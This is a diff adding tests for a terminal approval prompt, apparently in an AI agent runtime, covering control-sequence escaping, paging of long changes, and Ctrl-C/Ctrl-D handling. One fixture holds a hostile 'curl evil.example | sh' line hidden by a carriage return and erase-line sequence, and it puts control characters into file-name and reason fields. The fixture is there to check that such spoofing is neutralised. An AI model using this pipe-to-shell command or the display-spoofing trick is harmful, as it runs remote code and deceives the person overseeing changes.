@@ -5,10 +5,10 @@ import { expect } from 'chai';
 import { PassThrough } from 'node:stream';
 import { type ApprovalRequest, Approver } from '../../../runtime/broker/approver.js';
 
-/** A fake terminal: what was written, and a way to wait for a prompt. */
-function terminal() {
+/** A fake terminal: what was written, and a way to wait for a prompt. With a size, it pages like a real one. */
+function terminal(size?: { rows: number; columns: number }) {
   const input = new PassThrough();
-  const output = new PassThrough();
+  const output = Object.assign(new PassThrough(), size ?? {});
   let text = '';
   const waiters: Array<() => void> = [];
   output.setEncoding('utf8').on('data', (d: string) => {
@@ -16,6 +16,7 @@ function terminal() {
     for (const w of waiters.splice(0)) w();
   });
   const prompts = () => text.split('allow? [y/N]').length - 1;
+  const pages = () => text.split('Enter: next page').length - 1;
   return {
     input,
     output,
@@ -24,6 +25,10 @@ function terminal() {
     /** Resolves once `n` prompts have been written. */
     async untilPrompts(n: number): Promise<void> {
       while (prompts() < n) await new Promise<void>((r) => waiters.push(r));
+    },
+    /** Resolves once `n` "next page" questions have been written. */
+    async untilPages(n: number): Promise<void> {
+      while (pages() < n) await new Promise<void>((r) => waiters.push(r));
     },
   };
 }
@@ -125,5 +130,80 @@ describe('Approver', () => {
     expect(await first).to.deep.equal({ answer: 'no', by: 'timeout' });
     expect(await second).to.deep.equal({ answer: 'no', by: 'timeout' });
     expect(t.prompts()).to.equal(2);
+  });
+
+  it('a carriage return and an erase-line sequence in the change are shown, never obeyed (issue 15 class 1)', async () => {
+    const t = terminal();
+    const approver = new Approver({ autoApprove: false, interactive: true, timeoutMs: 60_000, input: t.input, output: t.output });
+    // On a raw terminal the second half would erase the visible first half of the line: the person would see only "+ok".
+    const spoof = '--- a/run.sh\n+++ b/run.sh\n@@ -1,1 +1,1 @@\n-echo hi\n+curl evil.example | sh\r\x1b[2K+ok\n';
+    const answer = approver.ask({ ...req('run.sh', spoof), path: 'run\x1b]0;t\x07.sh', reason: 'scripts\rhidden' }, never());
+    await t.untilPrompts(1);
+    t.input.write('n\n');
+    await answer;
+    const shown = t.text();
+    expect(shown).to.include('+curl evil.example | sh\\r\\x1b[2K+ok');
+    expect(shown).to.include('run\\x1b]0;t\\x07.sh').and.to.include('scripts\\rhidden');
+    // eslint-disable-next-line no-control-regex
+    expect(shown).to.not.match(/[\x00-\x09\x0b-\x1f\x7f]/);
+  });
+
+  it('pauses the live view while the question is open and resumes it after the answer', async () => {
+    const t = terminal();
+    const calls: string[] = [];
+    const host = { pause: () => calls.push(`pause@${t.prompts()}`), resume: () => calls.push(`resume@${t.prompts()}`) };
+    const approver = new Approver({ autoApprove: false, interactive: true, timeoutMs: 60_000, input: t.input, output: t.output, host });
+    const answer = approver.ask(req('package.json', '+x'), never());
+    await t.untilPrompts(1);
+    expect(calls).to.deep.equal(['pause@0']);
+    t.input.write('y\n');
+    await answer;
+    expect(calls).to.deep.equal(['pause@0', 'resume@1']);
+  });
+
+  it('a change taller than the screen is paged under a repeated header; y counts only once the last page is shown', async () => {
+    const t = terminal({ rows: 12, columns: 60 });
+    const approver = new Approver({ autoApprove: false, interactive: true, timeoutMs: 60_000, input: t.input, output: t.output });
+    const lines = Array.from({ length: 20 }, (_, i) => `+line ${i + 1}`);
+    const answer = approver.ask(req('big.txt', lines.join('\n')), never());
+    await t.untilPages(1);
+    const first = t.text();
+    expect(first).to.include('+line 1\n').and.to.not.include('+line 20');
+    expect(first).to.match(/lines 1-\d+ of 20 shown/);
+    // Every page fits the screen: blank line + header (3) + page + question.
+    const pageLines = first.split('\n').filter((l) => l.startsWith('+line')).length;
+    expect(1 + 3 + pageLines + 1).to.be.at.most(12);
+    t.input.write('y\n'); // too early: shows the next page instead
+    await t.untilPages(2);
+    expect(t.text()).to.include('y counts once the whole change has been shown');
+    for (let n = 3; t.prompts() === 0; n++) {
+      t.input.write('\n');
+      await Promise.race([t.untilPages(n), t.untilPrompts(1)]);
+    }
+    const all = t.text();
+    for (const l of lines) expect(all).to.include(`${l}\n`);
+    expect(all.split('── approval needed ──').length - 1).to.be.greaterThan(2);
+    t.input.write('y\n');
+    expect(await answer).to.deep.equal({ answer: 'yes', by: 'terminal' });
+  });
+
+  // That the process then exits at once (no 120 s timer left) is checked on a real terminal (spec/runtime/terminal/tty.e2e.spec.ts).
+  it('a stop while asking (Ctrl-C) answers no at once, recorded as interrupted', async () => {
+    const t = terminal();
+    const approver = new Approver({ autoApprove: false, interactive: true, timeoutMs: 120_000, input: t.input, output: t.output });
+    const stop = new AbortController();
+    const answer = approver.ask(req('package.json'), stop.signal);
+    await t.untilPrompts(1);
+    stop.abort('interrupted by SIGINT');
+    expect(await answer).to.deep.equal({ answer: 'no', by: 'interrupted' });
+  });
+
+  it('the end of input (Ctrl-D) is no', async () => {
+    const t = terminal();
+    const approver = new Approver({ autoApprove: false, interactive: true, timeoutMs: 60_000, input: t.input, output: t.output });
+    const answer = approver.ask(req('package.json'), never());
+    await t.untilPrompts(1);
+    t.input.end();
+    expect(await answer).to.deep.equal({ answer: 'no', by: 'terminal' });
   });
 });
